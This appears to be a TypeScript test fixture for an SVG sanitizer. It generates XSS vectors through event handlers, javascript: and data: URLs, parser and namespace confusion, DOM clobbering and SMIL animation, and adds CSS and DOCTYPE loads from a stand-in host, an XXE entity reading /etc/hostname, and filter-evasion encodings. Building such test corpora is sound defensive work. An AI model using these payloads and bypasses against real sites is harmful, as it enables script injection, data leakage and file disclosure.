// Lists attacks on an SVG sanitizer: vectors by class, positions in a file, and spellings. Tests combine every vector with
// every position and spelling.

const SCRIPT = 'alert(1)';
const OUTSIDE = '//evil.example/x';
const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Returns every pair of the two lists, as text. */
const cross = (
  left: readonly string[],
  right: readonly string[],
  print: (a: string, b: string) => string,
): readonly string[] => left.flatMap(a => right.map(b => print(a, b)));

const words = (text: string): readonly string[] => text.split(' ');

const EVENTS = words('onload onerror onbegin onfocus onpointerrawupdate ontoggle');
const HANDLER_ELEMENTS = words('svg g rect use image animate body img input details video');
const LOADERS = words(
  'a:href a:xlink:href use:href image:href feImage:xlink:href script:src script:href iframe:src iframe:srcdoc embed:src object:data ' +
    'img:src img:srcset input:src video:poster audio:src source:src track:src link:href base:href form:action button:formaction ' +
    'pattern:href filter:href textPath:href mpath:href cursor:href color-profile:xlink:href font-face-uri:href animate:to set:to',
);
const URLS = [
  `javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:image/svg+xml,<svg onload=${SCRIPT}>`,
  OUTSIDE,
];
const RESOURCE_PROPERTIES = words(
  'fill stroke mask clip-path filter marker-start cursor background list-style-image border-image content src behavior -moz-binding',
);
/** Elements whose content is text in HTML and elements in XML, or the reverse. */
const RAW_TEXT = words('style script title textarea noscript noembed noframes xmp iframe plaintext template');
/** Elements at which an HTML parser enters or leaves SVG or MathML. */
const NAMESPACE_BORDERS = words(
  'foreignObject desc title mtext mi mo mn ms annotation-xml math svg table select form p',
);
/** Ids that shadow a property of the page. */
const SHADOWING_IDS = words(
  'attributes childNodes parentNode firstChild nodeName ownerDocument innerHTML removeChild cookie body __proto__ constructor',
);
const ANIMATED_ATTRIBUTES = words('href xlink:href onload style fill src to');

const PAYLOAD = `<img src=x onerror=${SCRIPT}>`;

/** Vectors that would run a script, make requests or change other content, by class of attack. */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'event handlers': [
    ...cross(HANDLER_ELEMENTS, EVENTS, (tag, event) => `<${tag} ${event}="${SCRIPT}"/>`),
    ...cross(words('rect svg img'), EVENTS, (tag, event) => `<${tag}/${event}=${SCRIPT}>`),
    ...EVENTS.map(event => `<g ${event.toUpperCase()}='${SCRIPT}'></g>`),
  ],
  'URLs that run or load': cross(LOADERS, URLS, (loader, url) => {
    const colon = loader.indexOf(':');
    return `<${loader.slice(0, colon)} ${loader.slice(colon + 1)}="${url.replaceAll('<', '&lt;')}"/>`;
  }),
  'style sheets': [
    ...RESOURCE_PROPERTIES.map(name => `<rect style="${name}:url(${OUTSIDE})"/>`),
    ...RESOURCE_PROPERTIES.map(name => `<rect ${name}="url('${OUTSIDE}')"/>`),
    ...RESOURCE_PROPERTIES.map(name => `<style>*{${name}:url(${OUTSIDE})}</style>`),
    `<style>@import "${OUTSIDE}";</style>`,
    `<style>@font-face{font-family:x;src:url(${OUTSIDE})}</style>`,
    `<style>[id^=a]{fill:url(${OUTSIDE}?a)}</style>`,
    `<rect style="width:expression(${SCRIPT})"/>`,
    `<rect style="--a:url(${OUTSIDE});fill:var(--a)"/>`,
  ],
  'text that a second parser reads as elements': [
    ...RAW_TEXT.map(tag => `<${tag}></${tag}>${PAYLOAD}</${tag}>`),
    ...RAW_TEXT.map(tag => `<${tag}><a id="</${tag}>${PAYLOAD}"></a></${tag}>`),
    ...RAW_TEXT.map(tag => `<svg><${tag}>&lt;/${tag}&gt;${PAYLOAD.replaceAll('<', '&lt;')}</${tag}></svg>`),
    ...RAW_TEXT.map(tag => `<${tag}><!--</${tag}>${PAYLOAD}--></${tag}>`),
    `<!--><script>${SCRIPT}</script>-->`,
    `<!-- --!><script>${SCRIPT}</script> -->`,
    `<![CDATA[]]><script>${SCRIPT}</script>]]>`,
    `<!${PAYLOAD}>`,
    `<?x ?><script>${SCRIPT}</script>?>`,
    `</${PAYLOAD}>`,
  ],
  'changes of namespace': [
    ...cross(NAMESPACE_BORDERS, words('style script title'), (border, tag) => {
      return `<math><${border}><${tag}>${PAYLOAD}</${tag}></${border}></math>`;
    }),
    ...NAMESPACE_BORDERS.map(border => `<svg><${border}><svg onload="${SCRIPT}"/></${border}></svg>`),
    ...NAMESPACE_BORDERS.map(
      border => `<${border} xmlns="http://www.w3.org/1999/xhtml">${PAYLOAD}</${border}>`,
    ),
    `<x:script xmlns:x="http://www.w3.org/2000/svg">${SCRIPT}</x:script>`,
    `<x:rect xmlns:x="http://www.w3.org/2000/svg" x:onload="${SCRIPT}"/>`,
    `<rect xmlns:xlink="urn:other" xmlns:q="http://www.w3.org/1999/xlink" q:href="javascript:${SCRIPT}"/>`,
    `<g xml:base="javascript:"><use href="#a"/></g>`,
  ],
  'names that shadow the page': [
    ...SHADOWING_IDS.map(name => `<form id="${name}"><input name="${name}"/></form>`),
    ...SHADOWING_IDS.map(name => `<rect id="${name}" name="${name}" fill="url(#${name})"/>`),
  ],
  'animation that sets what is forbidden': [
    ...ANIMATED_ATTRIBUTES.map(name => `<a><set attributeName="${name}" to="javascript:${SCRIPT}"/></a>`),
    ...ANIMATED_ATTRIBUTES.map(
      name => `<use><animate attributeName="${name}" values="#a;javascript:${SCRIPT}" dur="1s"/></use>`,
    ),
  ],
  'templates and instructions': [
    `<text>{{constructor.constructor('${SCRIPT}')()}}</text>`,
    `<text>\${${SCRIPT}}<%= ${SCRIPT} %></text>`,
    `<?xml-stylesheet href="${OUTSIDE}.xsl" type="text/xsl"?>`,
    `<?php ${SCRIPT} ?>`,
    `<!DOCTYPE svg SYSTEM "${OUTSIDE}">`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>`,
    `<script type="importmap">{"imports":{"x":"${OUTSIDE}"}}</script>`,
    `<meta http-equiv="refresh" content="0;url=${OUTSIDE}"/>`,
    `<handler type="application/ecmascript">${SCRIPT}</handler>`,
  ],
};

export interface Spelling {
  readonly name: string;
  readonly write: (vector: string) => string;
}

const escapeXml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const eachChar = (text: string, print: (char: string) => string): string =>
  Array.from(text, char => print(char)).join('');
const getCode = (char: string): number => char.codePointAt(0) ?? 0;
const inWords = (text: string, inserted: string): string =>
  text.replace(/(java|scr|on|ur)(?=script|ipt|[a-z]{4}|l\()/gi, `$1${inserted}`);

/** Spellings of a vector that a text filter does not recognize. */
export const SPELLINGS: readonly Spelling[] = [
  { name: 'unchanged', write: text => text },
  {
    name: 'in alternating capitals',
    write: text => text.replace(/\w\w/g, pair => pair[0]?.toUpperCase() + pair.slice(1)),
  },
  { name: 'in predefined entities', write: escapeXml },
  { name: 'in entities twice', write: text => escapeXml(escapeXml(text)) },
  { name: 'in decimal references', write: text => eachChar(text, char => `&#${getCode(char)};`) },
  {
    name: 'in long hexadecimal references',
    write: text => eachChar(text, char => `&#x000${getCode(char).toString(16)};`),
  },
  {
    name: 'in references of its letters',
    write: text => text.replace(/[aeiou]/g, char => `&#${getCode(char)};`),
  },
  { name: 'in percent signs', write: encodeURIComponent },
  {
    name: 'in escapes of CSS',
    write: text => text.replace(/[a-z]/g, char => `\\${getCode(char).toString(16)} `),
  },
  {
    name: 'in UTF-7',
    write: text => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'),
  },
  {
    name: 'in wide letters',
    write: text => eachChar(text, c => (/[!-~]/.test(c) ? String.fromCharCode(getCode(c) + 0xfee0) : c)),
  },
  { name: 'with tabs in its words', write: text => inWords(text, '\t') },
  { name: 'with references to line ends in its words', write: text => inWords(text, '&#10;') },
  { name: 'with NUL in its words', write: text => inWords(text, '\0') },
  { name: 'with comments in its words', write: text => inWords(text, '/**/') },
  { name: 'in base 64', write: text => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}` },
];

export interface Placement {
  readonly name: string;
  /** Whether every vector is well-formed at this position, so that the file must be accepted. */
  readonly isWellFormed: boolean;
  readonly place: (vector: string) => string;
}

const svg = (inner: string): string => `<svg ${NAMESPACES}>${inner}</svg>`;
/** Escapes a vector for an attribute or text. Keeps references, and removes characters that XML cannot contain. */
const quote = (text: string): string =>
  text
    .replace(/[^\t\n\r\x20-\ud7ff\ue000-\ufffd]/g, '')
    .replace(/&(?!#\d+;|#x[\da-f]+;|(?:amp|lt|gt|quot);)/g, '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');

const ATTRIBUTES = words('id class href xlink:href fill style d transform onload x clip-path points');

/** The positions in a file where a vector can be. */
export const PLACEMENTS: readonly Placement[] = [
  { name: 'as the file', isWellFormed: false, place: vector => vector },
  { name: 'in a drawing', isWellFormed: false, place: svg },
  { name: 'in a link', isWellFormed: false, place: vector => svg(`<a><g>${vector}</g></a>`) },
  {
    name: 'in foreign content',
    isWellFormed: false,
    place: vector => svg(`<foreignObject>${vector}</foreignObject><rect/>`),
  },
  { name: 'behind the drawing', isWellFormed: false, place: vector => `${svg('<rect/>')}${vector}` },
  {
    name: 'in a tag',
    isWellFormed: false,
    place: vector => svg(`<rect ${vector.replace(/^<\w+|\/?>$/g, '')}/>`),
  },
  { name: 'in a comment', isWellFormed: false, place: vector => svg(`<!--${vector}--><rect/>`) },
  { name: 'in CDATA', isWellFormed: false, place: vector => svg(`<text><![CDATA[${vector}]]></text>`) },
  {
    name: 'in an entity',
    isWellFormed: false,
    place: vector => `<!DOCTYPE svg [<!ENTITY x '${vector}'>]>${svg('<rect fill="&x;" href="&x;"/>&x;')}`,
  },
  { name: 'as text', isWellFormed: true, place: vector => svg(`<text>${quote(vector)}</text>`) },
  { name: 'as a title', isWellFormed: true, place: vector => svg(`<title>${quote(vector)}</title>`) },
  ...ATTRIBUTES.map(name => ({
    name: `as the value of ${name}`,
    isWellFormed: true,
    place: (vector: string) => svg(`<use ${name}="${quote(vector)}"/>`),
  })),
];
